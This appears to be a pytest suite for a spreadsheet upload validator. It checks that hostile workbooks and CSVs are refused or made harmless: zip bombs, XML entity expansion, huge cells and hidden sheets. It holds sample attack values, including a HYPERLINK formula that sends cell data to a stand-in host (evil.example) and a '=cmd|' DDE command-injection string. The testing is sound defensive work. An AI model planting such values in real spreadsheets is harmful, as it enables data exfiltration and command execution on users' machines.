"""Must show 5: a clear verdict for every bad file, in bounded memory, with nothing run."""

import csv
import io
import time
import tracemalloc
import zipfile

import openpyxl
import pytest
from openpyxl.comments import Comment

from filings.annexchecks import limits, remarks
from filings.annexchecks.columns import KEYWORDS
from filings.annexchecks.refusals import Unreadable
from filings.annexchecks.specimen import csv_bytes, word, xlsx
from filings.uploads import RefusedUpload, examine
from tests.annexes.package import check, context, small
from tests.attaching.samples import archive, pdf, repacked, upload

HEAD = ["关键词", "一级分类", "二级分类"]
MEGABYTE = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"


def keywords(count, start=0):
    return [[word(number), "A.1", "A.1.1"] for number in range(start, start + count)]


def book(change):
    """A workbook of the plain kind, changed before it is saved."""
    made = openpyxl.Workbook()
    made.active.title = "词"
    for row in [HEAD, *keywords(5)]:
        made.active.append(row)
    change(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def refused(content):
    with pytest.raises(Unreadable) as error:
        check(small(), "keywords", content)
    assert str(error.value)
    return error.value.code


def test_two_hundred_thousand_rows_are_read_in_bounded_memory():
    content = csv_bytes([HEAD, *keywords(200_000)])
    tracemalloc.start()
    outcome, rows = check(small(), "keywords", content)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert (outcome.rows, rows) == (200_000, {})
    assert peak < 150 * MEGABYTE


def test_more_rows_than_are_read_are_refused(monkeypatch):
    monkeypatch.setattr(limits, "MOST_ROWS", 1_000)
    assert refused(csv_bytes([HEAD, *keywords(1_001)])) == "too_many_rows"


def test_forty_sheets_are_read_and_entries_count_once_over_all_of_them():
    outcome, rows = check(small(), "keywords", xlsx({f"类{n}": [HEAD, *keywords(10, n * 9)] for n in range(40)}))
    assert len(outcome.sheets) == 40
    assert (outcome.rows, outcome.counts["total"]) == (400, 361)
    assert rows == {2: ["duplicate"]}


def test_too_many_sheets_are_refused():
    assert refused(xlsx({f"{n}": [HEAD] for n in range(limits.MOST_SHEETS + 1)})) == "too_many_sheets"


def test_a_merged_class_counts_for_every_row_beside_it_and_a_merged_keyword_once():
    def change(made):
        sheet = made.active
        sheet.merge_cells("B2:B6")
        sheet.merge_cells("C2:C4")
        sheet.merge_cells("A5:A6")

    outcome, rows = check(small(), "keywords", book(change))
    assert rows == {6: ["empty"]}
    assert (outcome.counts["A.1.1"], outcome.merged) == (4, 3)


def test_formulas_are_not_calculated_and_what_they_saved_is_read():
    def change(made):
        made.active["A3"] = '=HYPERLINK("http://evil.example/?"&A2,"x")'

    outcome, rows = check(small(), "keywords", book(change))
    assert rows == {3: ["empty", "formula"]}
    assert outcome.counts["total"] == 4

    saved = book(lambda made: None)
    with zipfile.ZipFile(io.BytesIO(saved)) as package:
        sheet = package.read(SHEET).decode()
    cell = '<c r="A3" t="str"><f>CONCATENATE("甲","乙")</f><v>甲乙</v></c>'
    begin = sheet.index('<c r="A3"')
    changed = sheet[:begin] + cell + sheet[sheet.index('<c r="B3"') :]
    outcome, rows = check(small(), "keywords", repacked(saved, replace={SHEET: changed.encode()}))
    assert rows == {3: ["formula"]}
    assert outcome.counts["total"] == 5


def test_hidden_rows_and_sheets_do_not_count_and_stop_a_submission():
    def hide_row(made):
        made.active.row_dimensions[3].hidden = True

    def hide_sheet(made):
        other = made.create_sheet("隐藏")
        for row in [HEAD, *keywords(5, 10)]:
            other.append(row)
        other.sheet_state = "veryHidden"

    outcome, rows = check(small(), "keywords", book(hide_row))
    assert (rows, outcome.counts["total"], outcome.hides, outcome.stops) == ({3: ["hidden"]}, 4, True, True)
    outcome, rows = check(small(), "keywords", book(hide_sheet))
    assert (rows, outcome.counts["total"], outcome.hides) == ({}, 5, True)


@pytest.mark.parametrize("encoding", ["gb18030", "utf-8", "utf-16"])
@pytest.mark.parametrize("separator", [",", "\t", ";"])
def test_text_files_are_read_in_their_encoding(encoding, separator):
    text = "\r\n".join(separator.join(row) for row in [HEAD, *keywords(3), ["𠮷野家", "A.1", "A.1.2"]])
    outcome, rows = check(small(), "keywords", text.encode(encoding))
    assert (outcome.counts["total"], rows) == (4, {})


def test_text_in_another_encoding_is_refused():
    assert refused(b"\xff\x81\x00\xfe" + "カタカナ".encode("shift-jis") + b"\xff\xff\x80") in (
        "encoding",
        "not_a_table",
    )


@pytest.mark.parametrize("name", ["词.xlsx", "词.csv", "词.pdf"])
def test_a_wrong_ending_changes_nothing_for_the_check_and_is_refused_by_the_upload(name):
    content = {"词.xlsx": csv_bytes([HEAD, *keywords(5)]), "词.csv": xlsx({"": [HEAD, *keywords(5)]})}
    given = content.get(name, xlsx({"": [HEAD, *keywords(5)]}))
    assert check(small(), "keywords", given)[0].counts["total"] == 5
    with pytest.raises(RefusedUpload):
        examine(upload(name, given))


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "empty"),
        (pdf(), "not_a_table"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
        (archive(), "not_a_table"),
        (xlsx({"": [HEAD, *keywords(5)]})[:-200], "damaged"),
        (repacked(xlsx({"": [HEAD]}), replace={SHEET: b"<worksheet><sheetData><row"}), "damaged"),
        (repacked(xlsx({"": [HEAD]}), replace={"xl/workbook.xml": b"<workbook/>"}), "damaged"),
        (b"\r\n\r\n\r\n", "empty"),
        ("甲\n乙\n".encode(), "no_heading"),
    ],
)
def test_what_is_no_table_is_refused_with_a_reason(content, code):
    found = refused(content)
    assert found == code or {found, code} <= {"damaged", "empty", "no_heading"}


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    plain = xlsx({"": [HEAD, *keywords(5)]})
    zeros = repacked(plain, replace={SHEET: b"<worksheet>" + b" " * (60 * MEGABYTE)})
    tracemalloc.start()
    assert refused(zeros) == "bomb"
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 8 * MEGABYTE
    assert refused(repacked(plain, replace={"xl/styles.xml": b"<a>" + b" " * (9 * MEGABYTE)})) == "bomb"


def test_entities_are_not_expanded():
    laughs = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>'
    assert refused(repacked(xlsx({"": [HEAD]}), replace={SHEET: laughs})) == "active_content"


def test_one_far_cell_costs_nothing_and_is_named():
    def change(made):
        made.active["XFD1048576"] = "x"

    outcome, rows = check(small(), "keywords", book(change))
    assert (outcome.rows, rows, outcome.stray) == (5, {}, 1)

    outcome, rows = check(small(), "keywords", book(lambda made: made.active.__setitem__("A1048576", "远")))
    assert rows == {1_048_576: ["unknown_risk"]}


def test_a_million_empty_rows_are_passed_over():
    plain = xlsx({"": [HEAD, *keywords(5)]})
    with zipfile.ZipFile(io.BytesIO(plain)) as package:
        sheet = package.read(SHEET)
    empty = b"".join(b'<row r="%d"/>' % number for number in range(7, 400_000))
    tracemalloc.start()
    content = repacked(plain, replace={SHEET: sheet.replace(b"</sheetData>", empty + b"</sheetData>")})
    tracemalloc.reset_peak()
    before, _peak = tracemalloc.get_traced_memory()
    outcome, rows = check(small(), "keywords", content)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert (outcome.rows, rows) == (5, {})
    assert peak - before < 20 * MEGABYTE

    million = csv_bytes([HEAD, *keywords(5)]) + b",,\r\n" * 1_000_000
    assert check(small(), "keywords", million)[0].rows == 5


def test_more_blank_lines_than_a_spreadsheet_has_are_refused(monkeypatch):
    monkeypatch.setattr(limits, "MOST_LINES", 1_000)
    assert refused(csv_bytes([HEAD, *keywords(5)]) + b",,\r\n" * 1_000) == "too_many_rows"


def test_a_cell_of_a_megabyte_is_named_and_does_not_count():
    rows = [HEAD, *keywords(3), ["长" * MEGABYTE, "A.1", "A.1.1"]]
    for content in (csv_bytes(rows), csv_bytes(rows, "gb18030")):
        outcome, found = check(small(), "keywords", content)
        assert found == {5: ["too_long"]}
        assert outcome.counts["total"] == 3
    plain = xlsx({"": [HEAD, *keywords(3), ["PLACEHOLDER", "A.1", "A.1.1"]]})
    with zipfile.ZipFile(io.BytesIO(plain)) as package:
        sheet = package.read(SHEET)
    long = sheet.replace(b"PLACEHOLDER", b"x" * MEGABYTE)
    assert check(small(), "keywords", repacked(plain, replace={SHEET: long}))[1] == {5: ["too_long"]}


def test_a_quotation_mark_that_is_never_closed_is_named():
    content = csv_bytes([HEAD, *keywords(3)]) + b'"' + b"x,y\r\n" * (limits.LONGEST_RAW_CELL // 4)
    assert refused(content) == "cell_too_long"


def test_a_lone_control_character_can_be_stored():
    outcome, rows = check(small(), "keywords", csv_bytes([HEAD, ["a\0b", "A.1", "A\0.9"], *keywords(100)]))
    assert rows == {2: ["unknown_risk"]}
    assert "\0" not in str(outcome.sheets)


@pytest.mark.parametrize("start", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =cmd|'/C calc'!A0", "\uff1d1"])
@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_nothing_in_the_file_with_remarks_runs(start, form):
    rows = [[*HEAD, "备注"], [start, "A.1", "A.1.1", start], ["好", "=A1", "?", "\r=1"]]
    made = openpyxl.Workbook()
    for number, row in enumerate(rows, 1):
        for place, value in enumerate(row, 1):
            cell = made.active.cell(number, place, value.replace("\r", ""))
            cell.data_type = "s"
    out = io.BytesIO()
    made.save(out)
    given = io.BytesIO(out.getvalue() if form == "xlsx" else csv_bytes(rows))
    result = io.BytesIO()

    remarks.write(KEYWORDS, given, context(small()), result)

    if form == "xlsx":
        cells = [c for row in openpyxl.load_workbook(result).active.iter_rows() for c in row]
        assert all(cell.data_type != "f" for cell in cells)
        texts = [str(cell.value or "") for cell in cells]
    else:
        texts = [text for row in csv.reader(io.StringIO(result.getvalue().decode("utf-8-sig"))) for text in row]
    assert not any(text.lstrip().startswith(("=", "+", "-", "@", "\uff1d")) for text in texts)
    assert any(text.startswith("'") for text in texts)


def test_notes_and_pictures_beside_the_rows_are_left_alone():
    def change(made):
        made.active["A2"].comment = Comment("看这里", "某人")

    assert check(small(), "keywords", book(change))[0].counts["total"] == 5


@pytest.mark.parametrize("heap", ["\u0301\u0323", "\u0301\ufe00\u0323", "\u0f73", "\uff9e\u0323"])
def test_marks_heaped_on_one_letter_are_read_in_time_linear_in_their_number(heap):
    heaped = "e" + heap * (400_000 // len(heap))
    begun = time.process_time()
    outcome, found = check(
        small(), "keywords", csv_bytes([HEAD, ["词", "A.1", heaped], [heaped[:30_000], heaped, "A.1.1"]])
    )
    assert time.process_time() - begun < 5
    assert (outcome.rows, found[2]) == (2, ["unknown_risk"])


def sheet_of(body, behind=""):
    """A workbook whose only sheet has these rows below the headings and this behind them."""
    plain = xlsx({"": [HEAD, *keywords(1)]})
    with zipfile.ZipFile(io.BytesIO(plain)) as package:
        sheet = package.read(SHEET).decode()
    return repacked(plain, replace={SHEET: sheet.replace("</sheetData>", f"{body}</sheetData>{behind}").encode()})


def row(number, text="乙"):
    cells = "".join(f'<c t="inlineStr"><is><t>{each}</t></is></c>' for each in (text, "A.1", "A.1.1"))
    return f'<row r="{number}">{cells}</row>'


@pytest.mark.parametrize(
    "content",
    [
        sheet_of("<row>" + "".join(f"<c><v>{number}</v></c>" for number in range(600_000)) + "</row>"),
        sheet_of(
            row(3), "<hyperlinks>" + "".join(f'<hyperlink ref="A{n}"/>' for n in range(500_000)) + "</hyperlinks>"
        ),
    ],
    ids=["one row", "behind the rows"],
)
def test_a_sheet_that_gives_nothing_away_while_it_grows_is_refused(content):
    assert refused(content) == "bomb"


@pytest.mark.parametrize("numbers", [(2**31,), (2**70, 2**70 + 1), (0,), (-5,), (9, 9), (400_000, 3), (1_048_577,)])
def test_rows_whose_numbers_no_spreadsheet_writes_are_refused(numbers):
    assert refused(sheet_of("".join(row(number, f"词{number}") for number in numbers))) == "damaged"


def test_gaps_between_rows_fill_the_file_with_remarks_only_so_far(monkeypatch):
    monkeypatch.setattr(limits, "MOST_ROWS", 1_000)
    sheets = {f"{n}": [HEAD, *keywords(2)] for n in range(5)}
    plain = xlsx(sheets)
    replace = {}
    with zipfile.ZipFile(io.BytesIO(plain)) as package:
        for name in package.namelist():
            if "/worksheets/" in name:
                replace[name] = package.read(name).replace(b"</sheetData>", f"{row(900)}</sheetData>".encode())
    result = io.BytesIO()
    remarks.write(KEYWORDS, io.BytesIO(repacked(plain, replace=replace)), context(small()), result)
    made = openpyxl.load_workbook(result)
    assert sum(sheet.max_row for sheet in made) < 1_000 + 5 * 5


@pytest.mark.parametrize("inner", ["<si/>", "<si><t>x</t></si>"])
def test_a_table_of_texts_without_measure_is_refused(monkeypatch, inner):
    monkeypatch.setattr(limits, "MOST_TEXTS", 1_000)
    plain = xlsx({"": [HEAD, *keywords(1)]})
    with zipfile.ZipFile(io.BytesIO(plain)) as package:
        types = package.read("[Content_Types].xml").decode()
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    told = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/>'
    texts = f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{inner * 1_001}</sst>'
    types = types if "sharedStrings" in types else types.replace("</Types>", f"{told}</Types>")
    replace = {"[Content_Types].xml": types.encode(), "xl/sharedStrings.xml": texts.encode()}
    with zipfile.ZipFile(io.BytesIO(plain)) as package:
        add = {} if "xl/sharedStrings.xml" in package.namelist() else {"xl/sharedStrings.xml": texts.encode()}
    assert refused(repacked(plain, replace=replace, add=add)) == "bomb"
